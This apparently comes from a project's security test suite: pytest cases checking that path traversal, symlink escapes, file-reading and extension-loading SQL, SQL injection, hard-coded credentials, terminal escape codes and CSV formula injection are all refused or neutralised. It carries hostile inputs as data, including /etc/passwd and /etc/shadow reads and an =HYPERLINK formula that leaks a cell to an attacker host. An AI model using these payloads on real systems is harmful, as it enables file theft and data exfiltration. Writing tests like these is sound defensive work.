"""The trust boundaries of docs/security.md, each attacked where it stands (issue 11).

- A drop folder is written by people: a file source reads only what lies inside its folder
  (no `..` pattern, no absolute pattern, no link that leads out).
- KPI expressions are written by users: anything that would read files, attach a database,
  install an extension, change settings or run a second statement is refused when the
  catalogue loads, and the sandbox that probes them cannot do any of it either.
- Vocabularies (mappings) are data: a hostile code is matched as text, never run.
- Credentials come from the environment only: a source entry that carries one is refused.
- Ticket text printed on a terminal (`sevenstep quarantine`) cannot move the cursor or recolour,
  and ticket text in a CSV extract does not become a spreadsheet formula.

The end-to-end scan for canary secrets is in test_security_canaries.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import os
import shutil
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from assets.step4_process.cleaning import clean_range, reconciliation
from assets.step4_process.entities import INCIDENTS
from pipelines.cli import main
from quality.kpi_expressions import catalogue_problems, sandbox
from quality.schemas import CLEAN_TABLES, QUARANTINE, ddl
from resources.config_files import ConfigError, load_model
from resources.config_models import KpiCatalogue, KpiDefinition, SourceConfig, SourcesConfig
from resources.report_store import ReportStore
from resources.settings import sources
from resources.sources.landing import ensure_raw_table
from tests.sources_support import failure_message, gather, rows

BAD = Path(__file__).parent / "data" / "bad"
DAY = dt.date(2026, 3, 2)


# ------------------------------------------------------------------------ file sources


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the drop folder that looks like an export: it must never be read."""
    outside = tmp_path / "outside"
    outside.mkdir()
    path = outside / "incident_secret.csv"
    shutil.copyfile(BAD / "bom.csv", path)
    path.write_text(path.read_text(encoding="utf-8-sig").replace("BOM-", "SECRET-"))
    (tmp_path / "drop").mkdir()
    return path


def _drop_source(tmp_path: Path, pattern: str) -> SourceConfig:
    return SourceConfig.model_validate({
        "name": "drop", "kind": "files", "entities": ["incidents"],
        "files": {"folder": str(tmp_path / "drop"), "patterns": {"incidents": pattern}}})


def _assert_refused_and_unread(tmp_path: Path, pattern: str, *named: str) -> None:
    warehouse = tmp_path / "w.duckdb"
    result = gather(_drop_source(tmp_path, pattern), warehouse, DAY, DAY, raise_on_error=False)
    assert not result.success
    message = failure_message(result)
    assert "source 'drop', incidents: " in message and "outside" in message, message
    for name in named:
        assert name in message, message
    if warehouse.exists():
        tables = [r[0] for r in rows(warehouse, "SELECT table_name FROM information_schema."
                                     "tables WHERE table_schema = 'raw'")]
        for table in tables:
            assert "SECRET" not in str(rows(warehouse, f'SELECT * FROM raw."{table}"'))


@pytest.mark.parametrize("pattern", ["../outside/incident_*.csv", "sub/../../outside/*.csv"])
def test_a_pattern_that_climbs_out_of_the_folder_is_refused(
        tmp_path: Path, secret: Path, pattern: str) -> None:
    (tmp_path / "drop" / "sub").mkdir()
    _assert_refused_and_unread(tmp_path, pattern, pattern)


def test_an_absolute_pattern_is_refused(tmp_path: Path, secret: Path) -> None:
    pattern = str(secret.parent / "*.csv")
    _assert_refused_and_unread(tmp_path, pattern, pattern)


def test_a_link_out_of_the_drop_folder_is_refused(tmp_path: Path, secret: Path) -> None:
    (tmp_path / "drop" / "incident_link.csv").symlink_to(secret)
    _assert_refused_and_unread(tmp_path, "incident_*.csv", "incident_link.csv")


def test_a_linked_folder_leading_out_is_refused(tmp_path: Path, secret: Path) -> None:
    (tmp_path / "drop" / "exports").symlink_to(secret.parent, target_is_directory=True)
    _assert_refused_and_unread(tmp_path, "*/incident_*.csv", "exports/incident_secret.csv")


def test_files_and_links_inside_the_folder_are_read(tmp_path: Path, secret: Path) -> None:
    """The refusals above are about leaving the folder, not about links or subfolders."""
    drop = tmp_path / "drop"
    (drop / "2026").mkdir()
    shutil.copyfile(BAD / "bom.csv", drop / "2026" / "incident_a.csv")
    (drop / "incident_b.csv").symlink_to(drop / "2026" / "incident_a.csv")
    stamp = dt.datetime.combine(DAY, dt.time(12), dt.UTC).timestamp()
    os.utime(drop / "2026" / "incident_a.csv", (stamp, stamp))
    warehouse = tmp_path / "w.duckdb"
    result = gather(_drop_source(tmp_path, "**/incident_*.csv"), warehouse, DAY, DAY)
    assert result.success
    assert rows(warehouse, "SELECT DISTINCT number FROM raw.drop_incidents ORDER BY 1") == [
        ("BOM-1",), ("BOM-2",)]


# ------------------------------------------------------------------- KPI expressions


ATTEMPTS = {
    "read_csv": "count(*) FILTER (WHERE short_description IN "
                "(SELECT column0 FROM read_csv('/etc/passwd')))",
    "read_text": "sum(length(read_text('/etc/passwd')))",
    "read_blob": "sum(octet_length(read_blob('/etc/shadow')))",
    "read_parquet in a list lambda": "sum(len(list_transform([1], x -> read_parquet('a'))))",
    "glob": "count(glob('/home/*'))",
    "quoted function name": 'sum(length("read_text"(\'/etc/passwd\')))',
    "schema-qualified function": "sum(length(main.read_text('/etc/passwd')))",
    "second statement": "count(*); ATTACH '/tmp/evil.duckdb' AS evil",
    "second statement after a string": "count(*) FILTER (WHERE category = ';'); COPY "
                                       "clean.incidents TO '/tmp/leak.csv'",
    "comment hiding the rest": "count(*) -- ; INSTALL httpfs",
    "block comment": "count(*) /* LOAD httpfs */",
    "subquery into another schema": "(SELECT count(*) FROM information_schema.tables)",
    "query table function": "(SELECT count(*) FROM query('SELECT 1'))",
    "environment variable": "count(*) FILTER (WHERE category = getenv('HOME'))",
    "settings": "count(*) FILTER (WHERE category = current_setting('home_directory'))",
    "secrets": "count(*) FILTER (WHERE category = which_secret('s3://x', 's3'))",
    "sqlite_scan": "count(*) FILTER (WHERE 1 IN (SELECT 1 FROM sqlite_scan('x.db', 't')))",
    "serialized SQL": "count(json_execute_serialized_sql('{}'))",
}


def _kpi(numerator: str) -> KpiDefinition:
    return KpiDefinition.model_validate({
        "id": "evil", "name": "Evil", "description": "An attempt.", "unit": "count",
        "direction": "lower_is_better", "aggregate": "sum", "table": "incidents",
        "time_column": "opened_at", "numerator": numerator, "owner": "mallory",
        "attribution": "Day opened.", "counting_unit": "incident"})


@pytest.mark.parametrize("name", sorted(ATTEMPTS))
def test_a_kpi_expression_that_reaches_outside_its_rows_is_refused(name: str) -> None:
    problems = catalogue_problems(KpiCatalogue(kpis=[_kpi(ATTEMPTS[name])]))
    assert [(i, field) for i, field, _ in problems] == [(0, "numerator")], problems
    reason = problems[0][2]
    assert reason.startswith(("may not", "must be a single expression", "is not valid SQL")), \
        reason


@pytest.mark.parametrize("statement", [
    "SELECT * FROM read_csv('{file}')",
    "SELECT content FROM read_text('{file}')",
    "ATTACH '{folder}/evil.duckdb' AS evil",
    "COPY (SELECT 42) TO '{folder}/leak.csv'",
    "EXPORT DATABASE '{folder}/dump'",
    "INSTALL httpfs",
    "LOAD httpfs",
    "SET enable_external_access = true",
    "SET autoinstall_known_extensions = true",
    "RESET lock_configuration",
])
def test_the_sandbox_that_probes_expressions_cannot_touch_files_or_settings(
        tmp_path: Path, statement: str) -> None:
    """Defence in depth: were an expression to slip past the parse-tree checks, the connection
    that binds it can neither read, write, attach, install nor unlock itself."""
    visible = tmp_path / "visible.csv"
    visible.write_text("a\n1\n")
    con = sandbox()
    try:
        with pytest.raises(duckdb.Error):
            con.execute(statement.format(file=visible, folder=tmp_path)).fetchall()
    finally:
        con.close()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["visible.csv"]


def test_the_sandbox_is_a_throwaway_memory_database() -> None:
    """What a probe can write stays in memory and dies with the connection."""
    con = sandbox()
    try:
        assert con.execute("SELECT current_setting('enable_external_access')").fetchall() == [
            (False,)]
        assert [r[0] for r in con.execute("SELECT path FROM duckdb_databases() "
                                          "WHERE NOT internal").fetchall()] == [None]
    finally:
        con.close()


# -------------------------------------------------------------------------- mappings


def test_a_hostile_code_in_a_mapping_and_in_the_data_is_matched_as_text() -> None:
    hostile = "x'); DROP TABLE clean.incidents; --"
    source = sources().get("synthetic")
    mappings = {**source.mappings, "incident_state": {**source.mappings["incident_state"],
                                                      hostile: "closed"}}
    source = SourceConfig.model_validate({**source.model_dump(), "mappings": mappings,
                                          "pseudonymize": False})
    con = duckdb.connect()
    for schema in ("raw", "clean"):
        con.execute(f"CREATE SCHEMA {schema}")
    columns = ["number", "opened_at", "priority", "state"]
    ensure_raw_table(con, "synthetic_incidents", columns)
    con.executemany(
        "INSERT INTO raw.synthetic_incidents (number, opened_at, priority, state, _source, "
        "_partition, _row, _loaded_at) VALUES (?, '2026-03-02 09:00:00', '3 - Moderate', ?, "
        "'synthetic', ?, ?, TIMESTAMP '2026-11-01')",
        [("INC1", hostile, DAY, 1), ("INC2", "x'); DROP", DAY, 2)])
    con.execute(ddl("clean", "incidents", CLEAN_TABLES["incidents"]))
    con.execute(ddl("clean", "incidents_quarantine", QUARANTINE))
    end = DAY + dt.timedelta(days=1)
    assert clean_range(con, INCIDENTS, [source], DAY, end) == {"clean": 1, "quarantined": 1}
    assert con.execute("SELECT incident_id, state FROM clean.incidents").fetchall() == [
        ("INC1", "closed")]
    assert reconciliation(con, "incidents", [source], DAY, end) == []


# ------------------------------------------------------------------------ credentials


@pytest.mark.parametrize(("section", "field"), [
    ("sql", {"url_env": "DB_URL", "url": "postgresql://reader:hunter2@db/itsm"}),
    ("servicenow", {"instance_url": "https://x.service-now.com", "user_env": "U",
                    "password_env": "P", "password": "hunter2"}),
    ("servicenow", {"instance_url": "https://x.service-now.com", "token": "hunter2"}),
    ("prometheus", {"url": "http://prom:9090", "query": "up", "token": "hunter2"}),
])
def test_a_credential_written_into_sources_yaml_is_refused(
        tmp_path: Path, section: str, field: dict) -> None:
    entities = "[outages]" if section == "prometheus" else "[incidents]"
    body = "\n".join(f"      {k}: {v}" for k, v in field.items())
    if section == "servicenow" and "token" in field:
        body += "\n      tables: {incidents: incident}"
    extra = "\n      tables: {incidents: incident}" if section == "sql" else ""
    path = tmp_path / "sources.yaml"
    path.write_text(f"sources:\n  - name: s\n    kind: {section}\n    entities: {entities}\n"
                    f"    {section}:\n{body}{extra}\n", encoding="utf-8")
    with pytest.raises(ConfigError) as error:
        load_model(path, SourcesConfig)
    message = str(error.value)
    assert "sources.yaml:" in message and "hunter2" not in message, message


def test_the_local_pseudonym_salt_file_is_private(tmp_path: Path, monkeypatch) -> None:
    from resources.pseudonyms import ENV, pseudonym_salt, salt_file

    monkeypatch.delenv(ENV, raising=False)
    monkeypatch.setenv("SEVENSTEP_DATA_DIR", str(tmp_path))
    salt = pseudonym_salt()
    assert salt_file().stat().st_mode & 0o777 == 0o600
    assert len(salt) >= 32 and pseudonym_salt() == salt


# ---------------------------------------------------------------------- terminal output


def test_the_quarantine_command_prints_ticket_text_without_control_characters(
        tmp_path: Path) -> None:
    warehouse = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(warehouse)) as con:
        con.execute("CREATE SCHEMA clean")
        con.execute(ddl("clean", "incidents_quarantine", QUARANTINE))
        con.execute(
            "INSERT INTO clean.incidents_quarantine VALUES ('incidents', 'MISSING_REQUIRED', "
            "?, ?, ?, 'synthetic', DATE '2026-03-02', 1, TIMESTAMP '2026-11-01')",
            ["required field priority is empty\x1b[2J", "INC\x1b]0;pwned\x07\x1b[31m1\u202e",
             '{"number": "INC\\u001b[31m1\\u009b"}'])
        con.execute("CREATE VIEW clean.quarantine AS SELECT * FROM clean.incidents_quarantine")
    result = CliRunner().invoke(main, ["quarantine", "--raw"],
                                env={"SEVENSTEP_WAREHOUSE": str(warehouse)})
    assert result.exit_code == 0, result.output
    assert "INC" in result.output and "required field priority is empty" in result.output
    shown = result.output.replace("\n", "")
    assert not [c for c in shown if ord(c) < 32 or 0x7f <= ord(c) < 0xa0 or c == "\u202e"]


# --------------------------------------------------------------------- report extracts


def test_csv_extracts_do_not_turn_ticket_text_into_spreadsheet_formulas(tmp_path: Path) -> None:
    """A breakdown value (a service, group or category typed into a ticket) lands in the
    report's CSV extracts; a cell starting with = + - @ is a formula once Excel opens the file
    (CSV injection). Text must be neutralized; numbers stay numbers."""
    evil = ["=HYPERLINK(\"http://attacker/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd",
            "@SUM(1+1)*cmd", "\t=1+1"]
    with duckdb.connect() as con:
        path = ReportStore(directory=str(tmp_path)).extract(
            con, "SELECT v AS breakdown_value, -1.5 AS value FROM unnest(?) t(v)", "x.csv",
            [[*evil, "Email"]])
    cells = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))[1:]
    assert [c[1] for c in cells] == ["-1.5"] * 6
    assert cells[-1][0] == "Email"
    dangerous = [c[0] for c in cells if c[0][:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
